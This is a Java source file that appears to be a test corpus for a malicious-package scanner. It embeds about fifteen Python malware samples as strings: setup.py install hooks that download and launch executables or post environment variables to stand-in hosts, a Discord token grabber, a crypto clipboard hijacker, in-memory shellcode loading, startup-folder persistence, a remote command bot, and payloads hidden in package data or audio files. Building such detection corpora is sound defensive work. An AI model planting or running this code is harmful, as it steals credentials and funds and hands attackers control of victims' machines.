package cordon.inspect.corpus;

import cordon.inspect.testing.Artifact;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;

/** More ways in which the same is done in Python, as the kits write it that attackers share. */
final class PythonSpellings {
  private static final String CODED =
      Base64.getEncoder().encodeToString("print('inert')".getBytes(StandardCharsets.UTF_8));

  private PythonSpellings() {}

  static List<Sample> all() {
    return List.of(
        Sample.imported(
            "a temporary script that fetches its code, started by its own interpreter",
            """
            from tempfile import NamedTemporaryFile as _ffile
            from sys import executable as _eexecutable
            from os import system as _ssystem
            _ttmp = _ffile(delete=False)
            _ttmp.write(b\"""from urllib.request import urlopen as _uurlopen;exec(_uurlopen('http://192.0.2.7/inject').read())\""")
            _ttmp.close()
            try: _ssystem(f"start {_eexecutable.replace('.exe', 'w.exe')} {_ttmp.name}")
            except: pass
            """),
        Sample.setup(
            "builtins by import, compile, base64",
            "from setuptools import setup\n"
                + "__import__('builtins').exec(__import__('builtins').compile(__import__('base64')"
                + ".b64decode(\"%s\"),'<string>','exec'))\nsetup(name='x')\n".formatted(CODED)),
        Sample.setup(
            "a cipher is installed first, then used",
            """
            from setuptools import setup
            import os
            os.system("pip install cryptography requests")
            from cryptography.fernet import Fernet
            exec(Fernet(b'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=').decrypt(b'gAAAAABi'))
            setup(name='x', packages=['x'])
            """),
        Sample.setup(
            "PowerShell that fetches and starts, hidden",
            """
            from setuptools import setup
            from setuptools.command.install import install
            import subprocess
            class I(install):
                def run(self):
                    install.run(self)
                    subprocess.Popen('powershell -w hidden -c "iwr -Uri http://192.0.2.7/a.exe -OutFile $env:TEMP\\\\a.exe; Start-Process $env:TEMP\\\\a.exe"', shell=True)
            setup(name='x', cmdclass=dict(install=I))
            """),
        Sample.setup(
            "egg_info and develop report by a query",
            """
            from setuptools import setup
            from setuptools.command.develop import develop
            from setuptools.command.egg_info import egg_info
            from urllib import request, parse
            import platform, os, json

            def ping():
                info = {'node': platform.node(), 'user': os.getlogin(), 'cwd': os.getcwd()}
                request.urlopen('https://x.pipe.example/?' + parse.urlencode(info))

            class D(develop):
                def run(self):
                    develop.run(self)
                    ping()

            class E(egg_info):
                def run(self):
                    egg_info.run(self)
                    ping()

            setup(name='x', cmdclass={'develop': D, 'egg_info': E})
            """),
        Sample.setup(
            "the machine's name as a domain",
            """
            from setuptools import setup
            import socket, getpass
            try:
                socket.gethostbyname('%s.%s.x.callback.example' % (socket.gethostname(), getpass.getuser()))
            except OSError:
                pass
            setup(name='x')
            """),
        Sample.setup(
            "curl posts the environment",
            "import os\nfrom setuptools import setup\n"
                + "os.system('curl -s -X POST http://192.0.2.7/ -d \"$(env)\"')\nsetup(name='x')\n"),
        Sample.imported(
            "the environment over http.client",
            """
            import http.client, json, os
            def _():
                c = http.client.HTTPSConnection('stats.drop.example')
                c.request('POST', '/v1', body=json.dumps({k: v for k, v in os.environ.items()}), headers={'Content-Type': 'application/json'})
                c.getresponse()
            _()
            """),
        Sample.imported(
            "a token grabber that reads browser folders",
            """
            import os, re, json
            from urllib.request import Request, urlopen
            WEBHOOK = 'https://discord.com/api/webhooks/0/inert'

            def find(path):
                path += '\\\\Local Storage\\\\leveldb'
                tokens = []
                for name in os.listdir(path):
                    for line in open(f'{path}\\\\{name}', errors='ignore').readlines():
                        for regex in (r'[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}', r'mfa\\.[\\w-]{84}'):
                            tokens += re.findall(regex, line)
                return tokens

            def main():
                roaming = os.getenv('APPDATA')
                message = ''
                for path in (roaming + '\\\\Discord', roaming + '\\\\Opera Software\\\\Opera Stable'):
                    message += '\\n'.join(find(path))
                urlopen(Request(WEBHOOK, data=json.dumps({'content': message}).encode()))

            try:
                main()
            except Exception:
                pass
            """),
        Sample.imported(
            "an address in the clipboard is exchanged",
            """
            import re, threading, time
            import pyperclip
            def watch():
                while True:
                    text = pyperclip.paste()
                    if re.match('^bc1[a-z0-9]{30,}$', text):
                        pyperclip.copy('bc1qinertinertinertinertinertinertinert')
                    time.sleep(1)
            threading.Thread(target=watch, daemon=True).start()
            """),
        Sample.imported(
            "shell code in memory",
            """
            import ctypes, urllib.request
            code = urllib.request.urlopen('http://192.0.2.7/s.bin').read()
            k = ctypes.windll.kernel32
            p = k.VirtualAlloc(0, len(code), 0x3000, 0x40)
            k.RtlMoveMemory(p, code, len(code))
            k.CreateThread(0, 0, p, 0, 0, 0)
            """),
        Sample.imported(
            "a script put into the start-up folder",
            """
            import os, requests
            p = os.path.join(os.getenv('APPDATA'), r'Microsoft\\Windows\\Start Menu\\Programs\\Startup', 'u.pyw')
            with open(p, 'wb') as f:
                f.write(requests.get('https://files.drop.example/u.py').content)
            os.startfile(p)
            """),
        Sample.imported(
            "a bot that takes commands",
            """
            import socket, subprocess, threading
            def loop():
                s = socket.socket()
                s.connect(('192.0.2.7', 9001))
                while True:
                    cmd = s.recv(1024).decode()
                    out = subprocess.run(cmd, shell=True, capture_output=True)
                    s.send(out.stdout)
            threading.Thread(target=loop, daemon=True).start()
            """),
        new Sample(
            "a program hidden in the data of the package",
            Artifact.wheel("sample", "1.0")
                .file(
                    "sample/__init__.py",
                    """
                    import base64, os, subprocess, tempfile
                    from .data import BLOB
                    path = os.path.join(tempfile.mkdtemp(), 'x')
                    with open(path, 'wb') as f:
                        f.write(base64.b64decode(BLOB))
                    os.chmod(path, 0o755)
                    subprocess.Popen([path], stdout=subprocess.DEVNULL)
                    """)
                .file("sample/data.py", "BLOB = '" + "QUJD".repeat(2000) + "'\n")),
        new Sample(
            "code taken out of a sound",
            Artifact.wheel("sample", "1.0")
                .file(
                    "sample/__init__.py",
                    """
                    import base64, wave, urllib.request, tempfile, os
                    def load():
                        f = tempfile.mktemp()
                        urllib.request.urlretrieve('http://192.0.2.7/ring.wav', f)
                        with wave.open(f) as w:
                            raw = base64.b64decode(w.readframes(w.getnframes()))
                        key, data = raw[:8], raw[8:]
                        exec(bytes(b ^ key[i % 8] for i, b in enumerate(data)))
                    load()
                    """)));
  }
}
